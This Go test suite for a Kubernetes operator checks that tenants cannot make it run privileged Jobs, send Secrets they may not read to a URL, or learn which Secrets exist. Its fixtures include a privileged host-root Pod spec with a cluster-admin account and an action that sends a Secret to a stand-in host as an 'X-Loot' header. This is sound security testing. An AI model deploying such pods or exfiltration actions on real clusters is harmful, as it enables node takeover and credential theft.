package tenancy_test

import (
	"net/http"
	"strings"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	authorizationv1 "k8s.io/api/authorization/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	funnelv1 "github.com/funnel-operator/funnel-operator/api/v1alpha1"
	"github.com/funnel-operator/funnel-operator/test/harness"
	"github.com/funnel-operator/funnel-operator/test/testenv"
)

// moveIn is the event api/funnel's example v3-lease.move_in.json becomes.
func moveIn() string { return exampleName("v3-lease.move_in.json") }

// privilegedJob is what an attacker wants run: a privileged Pod on the host's network
// with the node's root file system, as a cluster-admin ServiceAccount, with a Secret in
// its environment.
func privilegedJob(account string) funnelv1.Action {
	return funnelv1.Action{Job: &funnelv1.JobAction{Template: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{
		Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
			RestartPolicy: corev1.RestartPolicyNever, ServiceAccountName: account, HostNetwork: true, HostPID: true,
			Volumes: []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
			Containers: []corev1.Container{{Name: "x", Image: "example.com/attacker:1",
				SecurityContext: &corev1.SecurityContext{Privileged: ptr.To(true)},
				VolumeMounts:    []corev1.VolumeMount{{Name: "host", MountPath: "/host"}},
				Env: []corev1.EnvVar{{Name: "DB", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
					LocalObjectReference: corev1.LocalObjectReference{Name: "db"}, Key: "password"}}}}}},
		}}}}}}
}

// exfiltrate sends the Secret db's password to url, as a header and as a signing key.
func exfiltrate(url, secret string) funnelv1.Action {
	ref := funnelv1.SecretKeyRef{Name: secret, Key: "password"}
	return funnelv1.Action{HTTP: &funnelv1.HTTPAction{URL: url,
		HeadersFrom: []funnelv1.HTTPHeaderFromSecret{{Name: "X-Loot", SecretRef: ref}}, SigningSecretRef: &ref}}
}

// dbSecret is a Secret of the tenant's namespace that the tenant may not read.
func dbSecret(ns string) string {
	GinkgoHelper()
	password := "pw-" + strings.Repeat("s3cr3t", 4)
	Expect(k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "db"},
		StringData: map[string]string{"password": password}})).To(Succeed())
	return password
}

// newSink starts an HTTP target for the spec's deliveries.
func newSink() *harness.Sink {
	GinkgoHelper()
	s, err := harness.NewSink()
	Expect(err).NotTo(HaveOccurred())
	DeferCleanup(s.Close)
	return s
}

// jobs lists the namespace's Jobs, as the admin.
func jobs(ns string) []batchv1.Job {
	GinkgoHelper()
	var list batchv1.JobList
	Expect(k8s.List(ctx, &list, client.InNamespace(ns))).To(Succeed())
	return list.Items
}

// heldBack matches the delivery to a subscription that is not Ready: it waits, and has
// made no attempt.
func heldBack(subscription string) OmegaMatcher {
	return SatisfyAll(HaveField("Subscription", subscription), HaveField("Phase", funnelv1.DeliveryPending),
		HaveField("Attempts", int32(0)), HaveField("Reason", funnelv1.WaitSubscriptionNotReady))
}

var _ = Describe("A tenant with FunnelSubscriptions but no Jobs, Pods or Secrets", func() {
	It("cannot have the operator run a privileged Job as a cluster-admin ServiceAccount of its namespace", func() {
		t := newTenant("jobs", subscriber...)
		clusterAdminAccount(t.ns, "deployer")
		dbSecret(t.ns)
		token := openReceiver(t.ns)
		op := startOperator(t.ns)

		By("a Job action without a ServiceAccount: the operator will not create it in its own name")
		Expect(t.client.Create(ctx, &funnelv1.FunnelSubscription{ObjectMeta: metav1.ObjectMeta{Namespace: t.ns, Name: "pwn"},
			Spec: funnelv1.FunnelSubscriptionSpec{EventTypes: []string{"*"}, Action: privilegedJob("deployer")}})).To(Succeed())
		Eventually(subscriptionReady(t.ns, "pwn")).Should(HaveField("Reason", funnelv1.ReasonServiceAccountRequired))
		By("acting as the cluster-admin account: refused at admission")
		Expect(t.client.Create(ctx, &funnelv1.FunnelSubscription{ObjectMeta: metav1.ObjectMeta{Namespace: t.ns, Name: "pwn-as"},
			Spec: funnelv1.FunnelSubscriptionSpec{EventTypes: []string{"*"}, ServiceAccountName: "deployer", Action: privilegedJob("deployer")}})).
			To(MatchError(ContainSubstring("may not impersonate ServiceAccount " + t.ns + "/deployer")))

		Expect(post(op, t.ns, token, "v3-lease.move_in.json")).To(Equal(http.StatusOK))
		Eventually(event(t.ns, moveIn())).Should(SatisfyAll(HaveField("Status.Phase", funnelv1.PhaseProcessing),
			HaveField("Status.Deliveries", ConsistOf(heldBack("pwn")))), "the delivery waits for a ServiceAccount")
		Expect(jobs(t.ns)).To(BeEmpty())
	})

	It("cannot have the operator send a Secret it may not read, by header or signature, even with a default ServiceAccount", func() {
		t := newTenant("secrets", subscriber...)
		password := dbSecret(t.ns)
		sink := newSink()
		token := openReceiver(t.ns)
		// The platform team's default account may read one Secret every team's actions share.
		Expect(testenv.ServiceAccount(ctx, k8s, t.ns, "funnel-default", rbacv1.PolicyRule{APIGroups: []string{""},
			Resources: []string{"secrets"}, ResourceNames: []string{"shared"}, Verbs: []string{"get"}})).To(Succeed())
		op := startOperator(t.ns, "--default-service-account=funnel-default")

		Expect(t.client.Create(ctx, &funnelv1.FunnelSubscription{ObjectMeta: metav1.ObjectMeta{Namespace: t.ns, Name: "loot"},
			Spec: funnelv1.FunnelSubscriptionSpec{EventTypes: []string{"*"}, Action: exfiltrate(sink.URL+"/loot", "db")}})).To(Succeed())
		Expect(t.client.Create(ctx, &funnelv1.FunnelSubscription{ObjectMeta: metav1.ObjectMeta{Namespace: t.ns, Name: "plain"},
			Spec: funnelv1.FunnelSubscriptionSpec{EventTypes: []string{"*"}, Action: funnelv1.Action{HTTP: &funnelv1.HTTPAction{URL: sink.URL + "/plain"}}}})).To(Succeed())
		Eventually(subscriptionReady(t.ns, "loot")).Should(SatisfyAll(HaveField("Reason", funnelv1.ReasonForbidden),
			HaveField("Message", ContainSubstring(`User "system:serviceaccount:`+t.ns+`:funnel-default" cannot get resource "secrets"`))))
		Eventually(subscriptionReady(t.ns, "plain")).Should(HaveField("Reason", funnelv1.ReasonReady))

		Expect(post(op, t.ns, token, "v3-lease.move_in.json")).To(Equal(http.StatusOK))
		Eventually(event(t.ns, moveIn())).Should(HaveField("Status.Deliveries", ConsistOf(heldBack("loot"),
			SatisfyAll(HaveField("Subscription", "plain"), HaveField("Phase", funnelv1.DeliverySucceeded)))))
		Expect(sink.Requests()).To(HaveLen(1))
		for _, r := range sink.Requests() {
			Expect(r.Path).To(Equal("/plain"))
			for name, values := range r.Header {
				Expect(strings.Join(values, ",")).NotTo(ContainSubstring(password), name)
			}
			Expect(string(r.Body)).NotTo(ContainSubstring(password))
		}
	})

	It("learns nothing from a subscription's status about which Secrets exist", func() {
		t := newTenant("oracle", append(subscriber, mayImpersonate("runner"))...)
		dbSecret(t.ns)
		Expect(testenv.ServiceAccount(ctx, k8s, t.ns, "runner", rbacv1.PolicyRule{APIGroups: []string{"batch"},
			Resources: []string{"jobs"}, Verbs: []string{"create"}})).To(Succeed())
		startOperator(t.ns)

		for _, account := range []string{"", "runner"} {
			for _, secret := range []string{"db", "no-such-secret"} {
				name := secret + "-as-" + account
				if account == "" {
					name = secret
				}
				Expect(t.client.Create(ctx, &funnelv1.FunnelSubscription{ObjectMeta: metav1.ObjectMeta{Namespace: t.ns, Name: name},
					Spec: funnelv1.FunnelSubscriptionSpec{EventTypes: []string{"*"}, ServiceAccountName: account,
						Action: exfiltrate("http://probe.example", secret)}})).To(Succeed())
			}
			suffix := "-as-" + account
			if account == "" {
				suffix = ""
			}
			Eventually(subscriptionReady(t.ns, "db"+suffix)).Should(HaveField("Status", metav1.ConditionFalse))
			Eventually(subscriptionReady(t.ns, "no-such-secret"+suffix)).Should(HaveField("Status", metav1.ConditionFalse))
			exists, missing := subscriptionReady(t.ns, "db"+suffix)(Default), subscriptionReady(t.ns, "no-such-secret"+suffix)(Default)
			Expect(missing.Reason).To(Equal(exists.Reason), "account %q", account)
			Expect(strings.ReplaceAll(missing.Message, "no-such-secret", "db")).To(Equal(exists.Message), "account %q", account)
		}
	})
})

var _ = Describe("A tenant that may impersonate an account allowed to create Jobs", func() {
	It("gets its Jobs, created as that account, owned by their event under OwnerReferencesPermissionEnforcement", func() {
		t := newTenant("runner", append(subscriber, mayImpersonate("runner"))...)
		Expect(testenv.ServiceAccount(ctx, k8s, t.ns, "runner", rbacv1.PolicyRule{APIGroups: []string{"batch"},
			Resources: []string{"jobs"}, Verbs: []string{"create"}})).To(Succeed())
		token := openReceiver(t.ns)
		op := startOperator(t.ns)
		Expect(t.client.Create(ctx, &funnelv1.FunnelSubscription{ObjectMeta: metav1.ObjectMeta{Namespace: t.ns, Name: "move-in"},
			Spec: funnelv1.FunnelSubscriptionSpec{EventTypes: []string{"lease.move_in"}, ServiceAccountName: "runner",
				Action: funnelv1.Action{Job: &funnelv1.JobAction{Template: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{
					Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever,
						Containers: []corev1.Container{{Name: "c", Image: "example.com/pms:1"}}}}}}}}}})).To(Succeed())
		Eventually(subscriptionReady(t.ns, "move-in")).Should(HaveField("Reason", funnelv1.ReasonReady))

		Expect(post(op, t.ns, token, "v3-lease.move_in.json")).To(Equal(http.StatusOK))
		Eventually(func() []batchv1.Job { return jobs(t.ns) }).Should(HaveLen(1))
		ev := event(t.ns, moveIn())(Default)
		Expect(metav1.IsControlledBy(&jobs(t.ns)[0], &ev)).To(BeTrue())

		reqs, err := harness.Requests(cp.AuditLog, operatorUser)
		Expect(err).NotTo(HaveOccurred())
		var creates []string
		for _, r := range reqs {
			if r.Resource == "jobs" && r.Verb == "create" && r.Namespace == t.ns {
				creates = append(creates, r.As)
			}
		}
		Expect(creates).NotTo(BeEmpty())
		Expect(creates).To(HaveEach("system:serviceaccount:"+t.ns+":runner"), "every Job create (dry runs included) as the subscription's account")
	})
})

var _ = Describe("The operator's own access to Secrets", func() {
	It("neither lists nor watches Secrets, and reads by name only its receivers' Secrets; subscriptions' only as their ServiceAccounts", func() {
		for _, verb := range []string{"list", "watch"} {
			sar := &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{User: operatorUser,
				Groups:             []string{"system:serviceaccounts", "system:serviceaccounts:funnel-system", "system:authenticated"},
				ResourceAttributes: &authorizationv1.ResourceAttributes{Resource: "secrets", Verb: verb}}}
			Expect(k8s.Create(ctx, sar)).To(Succeed())
			Expect(sar.Status.Allowed).To(BeFalse(), "config/rbac grants %s on Secrets", verb)
		}

		t := newTenant("operator-secrets", subscriber...)
		dbSecret(t.ns)
		Expect(k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: t.ns, Name: "crm"},
			StringData: map[string]string{"password": "crm-key"}})).To(Succeed())
		Expect(testenv.ServiceAccount(ctx, k8s, t.ns, "crm", rbacv1.PolicyRule{APIGroups: []string{""},
			Resources: []string{"secrets"}, ResourceNames: []string{"crm"}, Verbs: []string{"get"}})).To(Succeed())
		sink := newSink()
		token := openReceiver(t.ns)
		Expect(k8s.Create(ctx, &funnelv1.FunnelSubscription{ObjectMeta: metav1.ObjectMeta{Namespace: t.ns, Name: "crm"},
			Spec: funnelv1.FunnelSubscriptionSpec{EventTypes: []string{"*"}, ServiceAccountName: "crm", Action: exfiltrate(sink.URL, "crm")}})).To(Succeed())
		op := startOperator(t.ns)
		Eventually(subscriptionReady(t.ns, "crm")).Should(HaveField("Reason", funnelv1.ReasonReady))
		Eventually(func() int { return post(op, t.ns, token, "v3-lease.move_in.json") }).Should(Equal(http.StatusOK))
		Eventually(sink.Requests).Should(HaveLen(1))
		Expect(sink.Requests()[0].Header.Get("X-Loot")).To(Equal("crm-key"))

		reqs, err := harness.Requests(cp.AuditLog, operatorUser)
		Expect(err).NotTo(HaveOccurred())
		var own, asAccount []string
		for _, r := range reqs {
			if r.Resource != "secrets" || (r.Namespace != t.ns && r.Namespace != "") {
				continue
			}
			line := r.Verb + " " + r.Namespace + "/" + r.Name
			if r.As == "" {
				own = append(own, line)
			} else {
				asAccount = append(asAccount, line+" as "+r.As)
			}
		}
		Expect(own).NotTo(BeEmpty())
		Expect(own).To(HaveEach("get "+t.ns+"/funnel-token"), "the operator's own Secret requests: the receiver's token, by name")
		Expect(asAccount).NotTo(BeEmpty())
		Expect(asAccount).To(HaveEach("get "+t.ns+"/crm as system:serviceaccount:"+t.ns+":crm"), "the subscription's Secret, as its account")
	})
})
